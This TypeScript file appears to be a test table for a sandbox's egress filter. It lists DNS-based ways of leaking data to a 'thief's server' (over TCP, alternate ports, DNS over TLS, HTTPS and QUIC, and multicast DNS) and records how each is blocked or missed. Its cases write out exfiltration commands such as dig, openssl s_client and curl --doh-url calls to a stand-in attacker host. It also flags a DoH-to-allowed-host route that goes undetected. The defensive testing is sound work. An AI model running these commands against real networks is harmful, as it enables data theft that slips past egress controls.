import type { Open, Row } from '../case.ts'
import { curl, dig, python } from './script.ts'

const refused = 'names: `REFUSED`, never forwarded'
const connect = 'connect: `EPERM`'

const doh: Open = {
  result: 'told',
  why: 'the host is allowed; the detection is `dns-over-https` (high)',
  advice: 'do not allow hosts that answer DNS over HTTPS',
}
const hidden: Open = {
  result: 'not-held',
  why: 'the host is allowed, and the type of the request is inside of TLS',
  advice: 'do not allow hosts that answer DNS over HTTPS',
}

export const otherDns: Row = {
  row: 2,
  title: 'DNS by other ways',
  cases: [
    {
      id: 'dns-tcp',
      technique: 'query over TCP to the machine’s resolver (dig +tcp)',
      attempt: dig('+tcp $HOST'),
      by: refused,
    },
    {
      id: 'dns-tcp-other',
      technique: 'query over TCP to another resolver',
      attempt: dig('+tcp @198.51.100.53 $HOST'),
      twin: dig('+tcp $HOST'),
      by: refused,
    },
    {
      id: 'dns-tcp-thief',
      technique: 'query over TCP to the thief’s own server',
      attempt: dig('+tcp @$D4 $HOST'),
      twin: dig('+tcp $HOST'),
      by: refused,
    },
    {
      id: 'dns-tcp-pipelined',
      technique: 'allowed and denied query in one TCP segment',
      attempt: python(`
s = made()
s.connect((resolver(), 53))
messages = [query('good.example.com'), query(HOST)]
s.sendall(b''.join(struct.pack('!H', len(m)) + m for m in messages))
s.recv(4096)
raise SystemExit(9)`),
      twin: dig('+tcp +keepopen $HOST'),
      by: refused,
    },
    {
      id: 'dns-tcp-no-query',
      technique: 'bytes that are no DNS to a resolver’s TCP port 53',
      attempt: python(`
s = tcp(('198.51.100.53', 53), b'\\0\\x20' + DATA * 4)
raise SystemExit(9 if not s.recv(100) else 0)`),
      twin: dig('+tcp $HOST'),
      by: 'names: no question, the connection is closed or answered with an error',
      silent: 'no name that could be told',
    },
    ...['1053', '5353', '853', '443', '123'].map((port) => ({
      id: `dns-udp-${port}`,
      technique: `query to UDP port ${port} of the thief’s server (dig -p)`,
      attempt: `dig +tries=1 +time=3 -p ${port} @$D4 $HOST; exit 9`,
      twin: dig('$HOST'),
      by: connect,
    })),
    {
      id: 'dns-tcp-1053',
      technique: 'query to TCP port 1053 of the thief’s server (dig +tcp -p)',
      attempt: `dig +tcp +tries=1 +time=3 -p 1053 @$D4 $HOST; exit 9`,
      twin: dig('+tcp $HOST'),
      by: connect,
    },
    {
      id: 'dot-dig',
      technique: 'DNS over TLS, port 853 (dig +tls)',
      attempt: `dig +tls +tries=1 +time=3 @$D4 $HOST; exit 9`,
      twin: dig('$HOST'),
      by: connect,
    },
    {
      id: 'dot-openssl',
      technique: 'DNS over TLS by openssl s_client',
      attempt: `echo $T | timeout 6 openssl s_client -quiet -verify_quiet -no_ign_eof -connect $D4:853 -servername $HOST`,
      twin: `printf 'GET /%s HTTP/1.0\\r\\nHost: good.example.com\\r\\n\\r\\n' $T | timeout 6 openssl s_client -quiet -verify_quiet -ign_eof -connect good.example.com:443 -servername good.example.com`,
      by: connect,
    },
    {
      id: 'doh-thief',
      technique: 'DNS over HTTPS at a host that is not allowed (curl --doh-url)',
      attempt: `curl -sS -k --max-time 8 --doh-insecure --doh-url https://$D4/dns-query http://$HOST/; exit 9`,
      twin: curl('https://$HOST/'),
      by: connect,
    },
    {
      id: 'doh-known-host',
      technique: 'DNS over HTTPS at a known DoH host that is allowed (GET)',
      attempt: curl(`-H 'accept: application/dns-message' "https://dns.google/dns-query?dns=$T"`),
      twin: curl('https://$HOST/'),
      by: 'told: `dns-over-https`',
      user: doh,
      root: doh,
    },
    {
      id: 'doh-allowed-host-post',
      technique: 'DNS over HTTPS at another allowed host (POST, application/dns-message)',
      attempt: curl(
        `-H 'content-type: application/dns-message' --data-binary "$T" https://doh.example.com/dns-query`,
      ),
      twin: curl('https://$HOST/'),
      by: '–',
      silent: 'an allowed connection',
      user: hidden,
      root: hidden,
    },
    {
      id: 'doq',
      technique: 'DNS over QUIC (UDP 853)',
      attempt: python(`udp((D4, 853))`),
      twin: python(`udp(WHERE4)`),
      by: connect,
    },
    {
      id: 'mdns',
      technique: 'multicast DNS (224.0.0.251 port 5353) and LLMNR',
      attempt: python(`
failed = 0
for where in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('ff02::fb', 5353, 0, socket.if_nametoindex('to-internet'))):
    s = made(socket.AF_INET6 if ':' in where[0] else socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(query(HOST), where)
    except OSError as error: failed += 1; print(error)
raise SystemExit(9 if failed == 3 else 0)`),
      twin: dig('$HOST'),
      by: connect,
    },
  ],
}
